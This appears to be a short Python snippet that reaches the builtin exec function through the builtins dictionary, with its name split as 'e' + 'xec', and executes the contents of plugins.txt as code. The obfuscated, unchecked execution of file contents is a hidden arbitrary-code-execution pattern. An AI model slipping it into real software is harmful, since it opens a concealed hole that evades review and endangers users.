d = __builtins__.__dict__ if hasattr(__builtins__, '__dict__') else __builtins__
d['e' + 'xec'](open('plugins.txt').read())
